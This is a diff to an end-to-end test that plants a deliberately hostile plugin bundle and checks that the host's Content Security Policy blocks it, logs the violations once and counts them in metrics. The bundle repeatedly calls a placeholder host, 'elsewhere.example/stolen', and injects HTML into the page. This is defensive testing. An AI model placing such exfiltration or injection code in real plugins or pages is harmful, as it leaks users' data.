@@ -4,22 +4,19 @@ import { join } from 'node:path';
 import { expect, signIn, test } from './fixtures.ts';
 
 const HOSTILE = `import { createElement } from 'react';
-export default () => ({ routes: {}, widgets: { HelloWidget: () => createElement('p', { 'data-testid': 'hostile' }) } });
+export default () => ({ routes: { HelloPage: () => createElement('p', { 'data-testid': 'hostile' }) } });
 for (let n = 0; n < 3; n++) fetch('https://elsewhere.example/stolen').catch(() => {});
 try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); } catch {}
 `;
 
-test.use({
-  prepare: [
-    ({ plugins }: { plugins: string }) => writeFileSync(join(plugins, 'hello', '1.0.0', 'index.esm.js'), HOSTILE),
-    { option: true },
-  ],
-});
+const write = ({ plugins }: { plugins: string }): void =>
+  writeFileSync(join(plugins, 'hello-page', '1.0.0', 'index.esm.js'), HOSTILE);
+test.use({ prepare: async ({}, use) => use(write) });
 
 test('a violation of a bundle is reported once, as its own', async ({ browser, demo }) => {
   const context = await browser.newContext({ baseURL: demo.origin() });
   const page = await context.newPage();
-  await signIn(page, 'operator');
+  await signIn(page, 'operator', '/hello-page');
   await expect(page.getByTestId('hostile')).toHaveCount(1);
   const audit = () =>
     readFileSync(join(demo.bff.state, 'audit.log'), 'utf8')
@@ -33,11 +30,11 @@ test('a violation of a bundle is reported once, as its own', async ({ browser, d
     actor,
     directive: JSON.parse(detail).directive,
   }));
-  const told = { outcome: 'SDK_CSP_VIOLATION', plugin_id: 'hello', actor: 'auth:account:lab:operator' };
+  const told = { outcome: 'SDK_CSP_VIOLATION', plugin_id: 'hello-page', actor: 'auth:account:lab:operator' };
   expect(lines).toContainEqual({ ...told, directive: 'connect-src' });
   expect(lines).toContainEqual({ ...told, directive: 'require-trusted-types-for' });
   const metrics = await (await fetch(new URL('/metrics', demo.bff.metricsUrl ?? ''))).text();
-  expect(metrics).toMatch(/portcullis_denials_total\{[^}]*plugin_id="hello"[^}]*sdk_csp_violation[^}]*\} 2/i);
+  expect(metrics).toMatch(/portcullis_denials_total\{[^}]*plugin_id="hello-page"[^}]*sdk_csp_violation[^}]*\} 2/i);
   await page.getByRole('link', { name: /operator/i }).click();
   await expect(page.getByText(/refused https:\/\/elsewhere\.example\/stolen/).first()).toBeVisible();
   await context.close();
